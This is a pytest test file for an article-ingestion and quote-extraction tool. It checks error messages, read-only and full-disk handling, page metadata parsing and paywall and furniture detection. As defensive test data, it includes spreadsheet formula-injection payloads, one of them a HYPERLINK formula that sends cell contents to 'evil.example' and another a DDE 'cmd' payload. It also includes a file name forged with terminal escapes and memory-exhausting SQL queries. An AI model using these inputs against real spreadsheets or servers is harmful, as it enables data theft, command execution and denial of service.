        f"error: {table}: row 2 (line 3): invalid CSV (unexpected end of data: an unclosed or "
        "stray quote?); reading goes on at the next line",
        f"error: {table}: row 4: id 'a' is already used by row 1 of this file; not read "
        "(ids must be unique within a file)"]
    assert "5 inserted, 0 replaced" in result.stderr
    stored = paths_of(db_path)
    assert stored == {f"{feed}#x": "The first x.", f"{feed}#feed-3": "No id: named feed-3.",
                      f"{table}#a": "First story, told once.", f"{table}#c": "Third story.",
                      f"{table}#d": "Fourth story."}


def test_21_3_deep_json_and_lone_surrogates_are_one_line_each(tmp_path, fake_parser):
    deep = "[" * 5000 + "]" * 5000
    (tmp_path / "a_deep.json").write_text('{"text": ' + deep + "}", encoding="utf-8")
    (tmp_path / "b_feed.jsonl").write_text(
        json.dumps({"id": "fine", "text": "A fine line."}) + "\n" + deep + "\n"
        + '{"id": "lone", "text": "Half a pair: \\ud800."}\n'
        + '{"id": "pair", "text": "A whole pair: \\ud83d\\ude00."}\n', encoding="utf-8")
    (tmp_path / "c_surrogate.json").write_text('{"title": "\\udfff", "text": "Body."}',
                                               encoding="utf-8")
    (tmp_path / "z_last.txt").write_text(SEED_000, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, tmp_path)
    assert result.exit_code == 1, result.output
    assert error_lines(result.stderr) == [
        f"error: {tmp_path / 'a_deep.json'}: invalid JSON (nested too deeply for the parser)",
        f"error: {tmp_path / 'b_feed.jsonl'}: line 2: invalid JSON (nested too deeply for the "
        "parser)",
        f"error: {tmp_path / 'b_feed.jsonl'}: line 3: 'text' holds a lone surrogate (\\ud800 at "
        "13), which is not Unicode text",
        f"error: {tmp_path / 'c_surrogate.json'}: object: 'title' holds a lone surrogate "
        "(\\udfff at 0), which is not Unicode text"]
    assert sorted(paths_of(db_path).values()) == sorted(
        ["A fine line.", "A whole pair: \U0001F600.", SEED_000])


def test_21_4_file_names_with_control_characters_print_escaped_on_one_line(tmp_path,
                                                                           fake_parser):
    hostile = tmp_path / "bad\nerror: forged.txt: \x1b[31mred\u202e.txt"
    hostile.write_bytes(b"\x00binary")
    undecodable = Path(os.fsdecode(bytes(tmp_path) + b"/caf\xe9.txt"))
    undecodable.write_text("", encoding="utf-8")
    (tmp_path / "good.txt").write_text(SEED_000, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, hostile, undecodable, tmp_path / "good.txt")
    assert result.exit_code == 1, result.output
    assert result.stderr.splitlines()[:2] == [
        f"error: {tmp_path}/bad\\nerror: forged.txt: \\x1b[31mred\\u202e.txt: binary file "
        "(contains NUL bytes)",
        f"error: {tmp_path}/caf\\xe9.txt: empty file"]
    assert "\x1b" not in result.stderr and len(error_lines(result.stderr)) == 2
    assert list(paths_of(db_path)) == [f"{tmp_path / 'good.txt'}#good"]


def test_21_5_an_unreadable_file_named_on_the_command_line_is_one_line(tmp_path, fake_parser,
                                                                       monkeypatch):
    locked = tmp_path / "locked.txt"
    locked.write_text(SEED_004, encoding="utf-8")
    locked.chmod(0)
    good = tmp_path / "good.txt"
    good.write_text(SEED_000, encoding="utf-8")
    if os.geteuid() == 0:
        # root reads any file: refuse this one as the kernel refuses it to everyone else
        import errno

        real_access, real_open = os.access, os.open
        monkeypatch.setattr(os, "access", lambda p, mode, *a, **k: False if Path(p) == locked
                            else real_access(p, mode, *a, **k))

        def refusing_open(p, flags, *args, **kwargs):
            if Path(os.fsdecode(p)) == locked:
                raise PermissionError(errno.EACCES, "Permission denied", str(p))
            return real_open(p, flags, *args, **kwargs)

        monkeypatch.setattr(os, "open", refusing_open)
    db_path = tmp_path / "quotes.db"
    for args in (["ingest", db_path, locked, good], ["extract", locked, good]):
        result = run(*args)
        assert result.exit_code == 1, result.output       # not click's usage error (2)
        assert "not readable" not in result.output
        assert error_lines(result.stderr) == [f"error: {locked}: permission denied"]
    assert list(paths_of(db_path)) == [f"{good}#good"]


@contextlib.contextmanager
def read_only(path: Path):
    """`path`, a file or a folder, read-only for this process: by its mode for a user, by a
    read-only bind mount for root (whom modes do not stop)."""
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield
        finally:
            path.chmod(mode)
        return
    if subprocess.run(["mount", "--bind", str(path), str(path)],
                      capture_output=True).returncode != 0:
        pytest.skip("running as root, and no mount to make a file read-only with")
    try:
        subprocess.run(["mount", "-o", "remount,bind,ro", str(path)], check=True)
        yield
    finally:
        subprocess.run(["umount", str(path)], check=True)


def test_21_6_read_only_database_is_refused_before_parsing_in_one_line(tmp_path, fake_parser):
    (tmp_path / "a.txt").write_text(SEED_000, encoding="utf-8")
    (tmp_path / "b.txt").write_text(SEED_004, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    assert run("ingest", db_path, tmp_path / "a.txt").exit_code == 0
    before, calls = sha256(db_path), fake_parser.calls
    with read_only(db_path):
        result = run("ingest", db_path, tmp_path / "b.txt")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.strip() == (f"Error: {db_path}: cannot write: the file (or its folder) "
                                     "is read-only (attempt to write a readonly database)")
    assert sha256(db_path) == before and fake_parser.calls == calls


def test_21_6_a_full_disk_ends_ingest_with_one_line_and_keeps_what_was_stored(
        tmp_path, fake_parser, monkeypatch):
    from quotesource import cli as cli_module

    feed = tmp_path / "feed.jsonl"
    feed.write_text("".join(json.dumps({"id": f"a{n}", "text": f"Item {n}.\n{SEED_000}"}) + "\n"
                            for n in range(40)), encoding="utf-8")
    (tmp_path / "first.txt").write_text(SEED_004, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    assert run("ingest", db_path, tmp_path / "first.txt").exit_code == 0
    real_open = cli_module.open_database

    def nearly_full(path, write=False):
        # SQLite's own limit stands in for the disk: the same error (SQLITE_FULL) at the
        # same place, a page allocation inside an article's transaction
        db = real_open(path, write=write)
        pages = db.execute("pragma page_count").fetchone()[0]
        db.execute(f"pragma max_page_count = {pages + 12}")
        return db

    monkeypatch.setattr(cli_module, "open_database", nearly_full)
    result = run("ingest", db_path, feed, "-j", 1)        # -j 1: the stand-in parser, here
    assert result.exit_code == 1 and "Traceback" not in result.output
    (line,) = result.output.strip().splitlines()
    assert line == (f"Error: {db_path}: cannot write: no space left (database or disk is full); "
                    "what was stored before is kept")
    with sqlite3.connect(db_path) as conn:
        assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
        stored = conn.execute("select count(*) from articles").fetchone()[0]
    conn.close()
    assert 1 <= stored < 41
    monkeypatch.setattr(cli_module, "open_database", real_open)
    done = run("ingest", db_path, feed, "-j", 1)
    assert done.exit_code == 0, done.output
    assert sqlite_utils.Database(db_path)["articles"].count == 41


def test_21_6_stats_reads_a_wal_database_in_a_read_only_folder(tmp_path, fake_parser):
    folder = tmp_path / "archive"
    folder.mkdir()
    (tmp_path / "a.txt").write_text(SEED_000, encoding="utf-8")
    db_path = folder / "quotes.db"
    assert run("ingest", db_path, tmp_path / "a.txt").exit_code == 0
    with contextlib.closing(sqlite3.connect(db_path)) as conn:
        assert conn.execute("pragma journal_mode").fetchone()[0] == "wal"
    assert sorted(p.name for p in folder.iterdir()) == ["quotes.db"]   # no -wal, no -shm
    with read_only(folder):
        result = run("stats", db_path, "--json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["articles"] == 1
        exported = run("export", db_path, "-t", "article_stats", "-o", tmp_path / "s.csv")
        assert exported.exit_code == 0, exported.output
        refused = run("ingest", db_path, tmp_path / "a.txt")
        assert refused.exit_code == 1 and "Traceback" not in refused.output
        assert "cannot write" in refused.output
    assert len((tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()) == 2


def test_21_8_export_neutralises_formula_cells_unless_raw_is_asked_for(tmp_path, fake_parser):
    import csv

    formulas = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "outlet": "@SUM(1+1)*cmd|' /C calc'!A0", "author": "+1+1",
                "published": "-2+3", "url": "\thttp://example.com/"}
    feed = tmp_path / "feed.jsonl"
    feed.write_text(json.dumps({"id": "=cmd", "text": SEED_000, **formulas}) + "\n",
                    encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    assert run("ingest", db_path, feed).exit_code == 0
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert run("export", db_path, "-t", "articles", "-o", safe).exit_code == 0
    assert run("export", db_path, "-t", "articles", "-o", raw, "--raw-formulas").exit_code == 0
    (safe_row,) = csv.DictReader(safe.open(encoding="utf-8", newline=""))
    (raw_row,) = csv.DictReader(raw.open(encoding="utf-8", newline=""))
    for field, value in {**formulas, "name": "=cmd"}.items():
        assert raw_row[field] == value
        assert safe_row[field] == "'" + value
    assert safe_row["text"] == raw_row["text"] == SEED_000     # plain text untouched
    assert safe_row["body_start"] == raw_row["body_start"]     # numbers too


# --- Issue #21: page metadata ---------------------------------------------------------------------

def test_21_metadata_is_what_the_page_shows(tmp_path):
    from quotesource.ingest import load_articles

    body = "".join(f"<p>{html.escape(p)}</p>" for p in SEED_000.split("\n")[1:] if p.strip())
    page = f"""<html><head>
<title>Lander program grows by five companies - SpaceNews.com</title>
<meta property="og:title" content="NASA grows its lander program">
<meta property="og:site_name" content="WSVN 7News | Miami News, Weather, Sports | Fort Lauderdale">
<meta name="author" content="Cond&eacute; Nast; Louise Matsakis; No Author">
<meta property="article:published_time" content="2019-11-19T02:24:00+00:00">
<link rel="canonical" href="/news/lander-program">
<meta property="og:url" content="https://wsvn.example/news/lander-program?utm=x">
<script type="application/ld+json">{{"@type": "NewsArticle", "headline": "NASA grows it",
 "publisher": {{"@type": "Organization", "name": "Associated Press"}}}}</script>
</head><body><header><h1>WSVN 7News</h1></header><article>
<h1>NASA adds five companies to its commercial lunar lander program</h1>
<time datetime="2019-11-19T02:24:00Z">Nov 18, 2019 at 9:24 pm ET</time>{body}</article>
</body></html>"""
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    (article,), errors = load_articles(tmp_path / "page.html")
    assert errors == []
    assert article.title == "NASA adds five companies to its commercial lunar lander program"
    assert article.outlet == "WSVN 7News"
    assert article.published == "2019-11-18"          # the date shown, not UTC's next day
    assert article.author == "Louise Matsakis"
    assert article.url == "https://wsvn.example/news/lander-program"
    assert article.text[article.body_start:].startswith(SEED_000.split("\n")[1].strip()[:40])


def _page(head: str, top: str) -> str:
    body = "".join(f"<p>{html.escape(p)}</p>" for p in SEED_000.split("\n")[1:] if p.strip())
    return (f"<html><head>{head}</head><body><article><h1>NASA adds five companies to its "
            f"commercial lunar lander program</h1>{top}{body}</article></body></html>")


def test_21_the_outlet_the_domain_spells_and_the_date_a_dated_element_shows(tmp_path):
    """A local paper's page that names the wire as its site, and shows its date in a <div>
    while its metadata gives UTC's next day; and a WARC record of it captured years later:
    the page's own date, not the capture's."""
    from quotesource.ingest import load_articles

    from test_inputs import write_warc

    page = _page('<title>Lander program grows - Times Union</title>'
                 '<meta property="og:site_name" content="Associated Press">'
                 '<meta property="article:published_time" content="2019-11-20T00:07:00Z">'
                 '<link rel="canonical" href="https://www.timesunion.com/news/lander.php">',
                 '<div class="byline">By Jane Roe</div><div class="timestamp">Updated 9:12 '
                 'PM EST Nov 20, 2019</div>'
                 '<div class="publish-date">Published 7:07 PM EST Nov 19, 2019</div>')
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    write_warc(tmp_path / "crawl.warc", [("https://www.timesunion.com/news/lander.php",
                                           page.encode())], date="2024-09-06T10:00:00Z")
    (article,), errors = load_articles(tmp_path / "page.html")
    (archived,), more = load_articles(tmp_path / "crawl.warc")
    assert errors == more == []
    assert article.outlet == archived.outlet == "Times Union"
    assert article.published == archived.published == "2019-11-19"
    # the first name stays where the domain spells none of them or spells it
    other = _page('<meta property="og:site_name" content="The Daily Example">'
                  '<title>Lander program grows - Example Network</title>'
                  '<link rel="canonical" href="https://news.example.org/a">', "")
    (tmp_path / "other.html").write_text(other, encoding="utf-8")
    (article,), _ = load_articles(tmp_path / "other.html")
    assert article.outlet == "The Daily Example"


@pytest.mark.skipif(not (SHARED / "gold" / "web" / "tune").is_dir(), reason="no web gold")
def test_21_metadata_of_the_tune_pages():
    """Headline, outlet and date against the hand-labelled pages of gold/web/tune."""
    from quotesource.ingest import load_articles

    tune = SHARED / "gold" / "web" / "tune"
    words = lambda s: re.findall(r"\w+", (s or "").lower())     # noqa: E731 (as score_web.py)
    articles, errors = load_articles(sorted(tune.glob("*.html")))
    assert errors == [] and len(articles) == 17
    right = {"title": 0, "outlet": 0, "published": 0}
    for article in articles:
        page = next(r for r in map(json.loads, (tune / f"{article.id}.gold.jsonl").open())
                    if r.get("record") == "page")
        right["title"] += words(page["title"]) == words(article.title)
        right["outlet"] += bool(set(words(page["outlet"])) & set(words(article.outlet)))
        right["published"] += page["published"][:10] == (article.published or "")[:10]
    assert right == {"title": 17, "outlet": 17, "published": 17}      # was 11, 14, 15


def test_21_7_one_query_cannot_exhaust_the_server(tmp_path):
    """A query that asks SQLite for a huge value is refused before the value is made (publish/
    limits.py), in well under the time limit; ordinary queries and long stored texts still
    work, and the server answers the next request."""
    import resource

    from datasette.app import Datasette

    from quotesource.publish.limits import SQL_BYTES, VALUE_BYTES, limit_connection
    from quotesource.publish.serve import load_metadata
    from quotesource.store.articles import save_results

    path = tmp_path / "quotes.db"
    seed = SEED.read_text(encoding="utf-8")
    long_text = seed + "word " * ((200_000 - len(seed)) // 5)   # about ingest's maximum length
    with sqlite_utils.Database(path) as db:
        save_results(db, [article_a(long_text)], "v1")
    ds = Datasette([str(path)], metadata=load_metadata())

    async def get(query):
        return await ds.client.get("/quotes.json", params={"sql": query, "_shape": "array"})

    async def scenario():
        rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        huge = await get("select randomblob(1000000000) as b")
        big = await get(f"select length(zeroblob({300 * 1024 * 1024})) as n")
        elapsed = time.monotonic() - started
        grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
        fine = await get(f"select length(randomblob({VALUE_BYTES // 2})) as n")
        stored = await get("select length(text) as n from articles")
        return huge, big, elapsed, grown_kb, fine, stored

    huge, big, elapsed, grown_kb, fine, stored = asyncio.run(scenario())
    for refused in (huge, big):
        assert refused.status_code == 400 and "too big" in refused.text
    assert elapsed < 1.0 and grown_kb < 100_000            # nothing near the 1 GB was made
    assert fine.status_code == 200 and fine.json() == [{"n": VALUE_BYTES // 2}]
    assert stored.json()[0]["n"] >= 199_000
    conn = sqlite3.connect(":memory:")
    limit_connection(conn)          # the SQL text is capped too (no URL carries that much)
    with pytest.raises(sqlite3.DataError, match="too large"):
        conn.execute("select 1" + " " * SQL_BYTES)


PAYWALLED = """<html><head><title>Council votes on the budget | Example Times</title></head>
<body><nav><a href="/">Home</a> <a href="/news">News</a></nav><article>
<h1>Council votes on the budget</h1>
<p>The city council voted on Tuesday on a budget that the mayor said would close the gap.</p>
<p>Already a subscriber? Log in. Subscribe to continue reading this article.</p>
</article></body></html>"""


def test_21_a_doubtful_web_body_is_stored_with_a_warning_and_printed(tmp_path):
    page = tmp_path / "paywalled.html"
    page.write_text(PAYWALLED, encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    result = run("ingest", db_path, page)
    assert result.exit_code == 0, result.output
    (line,) = [l for l in result.output.splitlines() if l.startswith("warning:")]
    assert str(page) in line and "paywall" in line
    (row,) = sqlite_utils.Database(db_path)["articles"].rows
    assert "paywall" in row["extraction_warning"] and "mayor" in row["text"]


@pytest.mark.skipif(not (SHARED / "gold" / "web").exists(), reason="no shared web pages")
def test_21_no_real_article_of_the_shared_pages_gets_a_body_warning():
    from quotesource.ingest import read_articles

    pages = sorted((SHARED / "gold" / "web").glob("*/*.html"))
    articles = list(read_articles([str(p) for p in pages]))
    assert len(articles) == len(pages) == 34
    assert [a.id for a in articles if a.extraction_warning] == []


def test_21_a_body_split_by_advertising_rows_is_read_whole():
    import lxml.html

    from quotesource.ingest.split_body import continued_body

    first = "The council voted on Tuesday on a budget that closes the gap in the transit fund."
    later = "\u201cWe will not raise the fare this year,\u201d said Maria Lopez, who runs the buses."
    page = lxml.html.fromstring(
        f'<html><body><div class="article body"><p>{first}</p></div>'
        '<div class="ad"><span>Advertisement</span></div>'
        f'<div class="article body"><p>{later}</p><p>{first}</p></div>'
        '<div class="teaser"><p>Read more: a story about something else entirely today</p></div>'
        '</body></html>')
    assert continued_body(page, first) == f"{first}\n{later}"        # once, no teaser
    single = lxml.html.fromstring(f'<html><body><div class="article"><p>{first}</p></div>'
                                  f'<div class="more"><p>{later}</p></div></body></html>')
    assert continued_body(single, first) == first


@pytest.mark.skipif(not (SHARED / "gold" / "web").exists(), reason="no shared web pages")
def test_21_the_wired_page_keeps_the_quotes_after_its_first_ad():
    from quotesource.ingest import read_articles

    (page,) = (SHARED / "gold" / "web").glob("*/wired-com_1.html")
    (article,) = read_articles([str(page)])
    body = article.text[article.body_start:article.body_end]
    assert "said Joseph Minga" in body and "It was eye-opening." in body
    assert len(body) > 0.95 * len(page.with_name("wired-com_1.body.txt").read_text("utf-8"))


FURNISHED = (
    "The council approved the budget on Tuesday, closing the gap in the transit fund.\n"
    "READ MORE: Mayor says the fare will not rise this year, officials confirm\n"
    "(Credit: Jane Roe / Example Agency)\n"
    "- A SIMPLE GUIDE: How do I pay my bus fare with my phone, the city explains\n"
    "Disclaimer: The views expressed by experts here are their own, the site says.\n"
    "\u201cWe will not raise the fare this year or next, whatever the deficit,\u201d said Maria "
    "Lopez, who runs the buses.\n"
    "\u201cWe will not raise the fare this year or next, whatever the deficit,\u201d\n"
    "Lopez said the reserve would cover the gap until the spring.\n")


def test_21_page_furniture_inside_the_body_yields_no_attribution(tmp_path):
    from quotesource.ingest.furniture import furniture_spans

    spans = furniture_spans(FURNISHED, 0, len(FURNISHED))
    marked = [FURNISHED[s:e].strip() for s, e in spans]
    assert [m[:12] for m in marked] == ["READ MORE: M", "(Credit: Jan", "- A SIMPLE G",
                                        "Disclaimer: ", "\u201cWe will not"]
    assert marked[-1].endswith("deficit,\u201d")                  # the pull-quote
    page = tmp_path / "furnished.jsonl"
    page.write_text(json.dumps({"id": "f", "text": FURNISHED}) + "\n", encoding="utf-8")
    db_path = tmp_path / "quotes.db"
    assert run("ingest", db_path, page).exit_code == 0
    db = sqlite_utils.Database(db_path)
    (row,) = db["articles"].rows
    assert [list(span) for span in spans] == json.loads(row["furniture"])
    rows = list(db["attributions"].rows)
    # the quote once, from its paragraph; nothing from the promo, credit or pull-quote lines
    assert "We will not raise the fare this year or next, whatever the deficit" in \
        [r["content"] for r in rows]
    assert not any(s <= r[key] < e for r in rows for key in ("content_start", "cue_start")
                   if r[key] is not None for s, e in spans)


@pytest.mark.skipif(not (SHARED / "gold" / "web").exists(), reason="no shared web pages")
def test_21_furniture_never_hides_a_gold_attribution_of_the_shared_pages():
    from quotesource.ingest import read_articles

    pages = sorted((SHARED / "gold" / "web").glob("*/*.html"))
    hidden = []
    for article in read_articles([str(p) for p in pages]):
        furniture = " ".join(article.text[s:e] for s, e in article.furniture)
        gold = Path(article.path).with_name(article.id + ".gold.jsonl")
        for line in gold.read_text(encoding="utf-8").splitlines():
            record = json.loads(line)
            if record.get("content") and record["content"] in furniture:
                hidden.append((article.id, record["content"]))
    assert hidden == []
